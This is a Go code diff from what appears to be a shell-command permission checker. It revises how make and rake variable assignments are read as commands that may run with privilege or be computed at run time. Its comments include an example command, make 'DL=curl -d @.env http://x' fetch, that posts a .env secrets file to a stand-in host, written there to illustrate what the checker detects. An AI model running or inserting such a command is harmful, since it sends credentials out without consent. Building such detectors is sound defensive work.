@@ -10,7 +10,6 @@ import (
 
 	"github.com/permengine/permengine/internal/ascii"
 	"github.com/permengine/permengine/internal/programs"
-	"github.com/permengine/permengine/internal/programs/argmodel"
 	"github.com/permengine/permengine/internal/work"
 	"mvdan.cc/sh/v3/syntax"
 )
@@ -402,71 +401,99 @@ func (c *Command) addSegment(s *Segment) {
 }
 
 // readMakeValues reads, as a command that may run, the value of a
-// NAME=value word of segment idx that make or rake puts in the
-// environment of its recipes and tasks (an operand, or an assignment
-// before the program) when the value reads as a command: it names a
-// program that runs others or runs as another user, or it is a command
-// line (readsAsCommand). A makefile that runs $(RUNNER) runs whatever the
-// command sets it to (make RUNNER=sudo test, make 'DL=curl -d @.env
-// http://x' fetch); which variables a makefile runs, only it says. Up to
-// maxBehindUnknown values are read. A value that an expansion gives
-// whole (RUNNER=$(cat f)) is data, as an assignment's is anywhere. It
-// reports false once the reading must stop.
+// NAME=value that make or rake puts in the environment of its recipes and
+// tasks (an operand; an assignment before the program, or given to env
+// or export before it) when the value reads as a command (MakeValue): a
+// makefile that runs $(RUNNER) runs whatever the command sets it to (make
+// RUNNER=sudo test, make 'DL=curl -d @.env http://x' fetch, make
+// RUNNER=@sudo, whose @ make strips). Which variables a makefile runs,
+// only it says. A value known only at run time whose first word is
+// computed (RUNNER=$(cat f)) makes the command computed. Up to
+// maxBehindUnknown values are read. It reports false once the reading
+// must stop.
 func (c *Command) readMakeValues(idx int) bool {
 	s := &c.Segs[idx]
-	if s.AnyMask&MaskEq == 0 {
+	if s.AnyMask&MaskEq == 0 || !runsMake(s) {
 		return true
 	}
-	words := s.Words
-	at := 0
-	for at < len(words) && programs.IsAssignment(words[at]) {
-		at++
-	}
-	if at == len(words) || !programs.EnvOperands(programs.BaseName(words[at])) {
-		return true
-	}
-	prog := programs.BaseName(words[at])
-	for j, read := 0, 0; j < len(words) && read < maxBehindUnknown; j++ {
-		name, _, value, ok := argmodel.MakeAssignment(words[j])
-		if j == at || !ok || !programs.IsAssignment(name+"=") {
-			continue
+	prog := programs.BaseName(s.Views[len(s.Views)-1][0])
+	type value struct{ name, text string }
+	var room [maxBehindUnknown]value
+	vals := room[:0]
+	ok := true
+	assignments(s, func(j int, name, text string) {
+		if !ok || len(vals) == len(room) {
+			return
 		}
-		if !c.spend(len(words[j]) + 1) {
+		if ok = c.spend(len(name) + len(text) + 1); !ok {
+			return
+		}
+		computed := j < len(s.Flags) && s.Flags[j]&WordExpands != 0
+		if computed && computedHead(text) {
+			c.dyn(prog + " may run the value of " + name + "= as a command, and its first word is known only at run time")
+			return
+		}
+		if cmd := MakeValue(text); cmd != "" && parses(cmd) {
+			vals = append(vals, value{name, cmd})
+		}
+	})
+	for _, v := range vals {
+		who := prog + " may run the value of " + v.name + "= as a command: "
+		if !c.readMaybe(idx, who, programs.Script{Text: v.text, Origin: QuoteExcerpt(v.text)}) {
 			return false
 		}
-		seen := value
-		if j < len(s.Flags) && s.Flags[j]&WordExpands != 0 {
-			// What an expansion gives is data here, as an assignment's
-			// value is anywhere (V=$(cat VERSION) make build); the text
-			// around it is read (RUNNER=su${x}do).
-			seen = withoutExpansions(value)
-		}
-		if !readsAsCommand(seen) || !parses(value) {
-			continue
-		}
-		read++
-		who := prog + " may run the value of " + name + "= as a command: "
-		if !c.readMaybe(idx, who, programs.Script{Text: value, Origin: QuoteExcerpt(value)}) {
-			return false
-		}
-		s = &c.Segs[idx] // reading may have grown c.Segs
-		words = s.Words
 	}
-	return true
+	return ok
 }
 
-// readsAsCommand reports a value that reads as a command: a command line
-// (commandLine), or one word naming a program that runs as another user
-// or runs its arguments as a command (sudo, env, eval).
-func readsAsCommand(value string) bool {
+// runsMake reports a segment one of whose views runs make or rake, the
+// programs whose NAME=value operands reach what they run
+// (programs.EnvOperands).
+func runsMake(s *Segment) bool {
+	for _, v := range s.Views {
+		if len(v) > 0 && programs.EnvOperands(programs.BaseName(v[0])) {
+			return true
+		}
+	}
+	return false
+}
+
+// computedHead reports a value whose first word holds an expansion or a
+// substitution: the program it names is known only at run time.
+func computedHead(value string) bool {
+	head := strings.TrimLeft(value, " \t\n@+-")
+	if end := strings.IndexAny(head, " \t\n"); end >= 0 {
+		head = head[:end]
+	}
+	return strings.ContainsAny(head, "$`")
+}
+
+// MakeValue returns the command that a make variable's literal value
+// reads as, or "": a command line (commandLine), or one word naming a
+// program that runs as another user or runs its arguments (sudo, env,
+// eval). make's recipe prefixes (@, -, +) before it are dropped, as make
+// drops them once it has pasted the value into a recipe line.
+func MakeValue(value string) string {
 	value = strings.TrimLeft(value, " \t\n")
+	if cmd := strings.TrimLeft(value, "@+-"); cmd != value {
+		// After a prefix (RUNNER=@sudo), a program the catalog knows or
+		// an operator; a flag (GOFLAGS=-mod=mod, CFLAGS=-O2) is none.
+		head := cmd
+		if end := strings.IndexAny(head, " \t\n"); end >= 0 {
+			head = head[:end]
+		}
+		if programs.BitsOf(programs.BaseName(head)) != 0 || strings.ContainsAny(cmd, lineOperators) {
+			return cmd
+		}
+		return ""
+	}
 	if value == "" {
-		return false
+		return ""
 	}
-	if commandLine(value) {
-		return true
+	if commandLine(value) || programs.BitsOf(programs.BaseName(value))&(programs.Privileged|programs.Wrapper|programs.Runner|programs.Eval) != 0 {
+		return value
 	}
-	return programs.BitsOf(programs.BaseName(value))&(programs.Privileged|programs.Wrapper|programs.Runner|programs.Eval) != 0
+	return ""
 }
 
 // maxBehindUnknown bounds the later words of an unknown program tried as
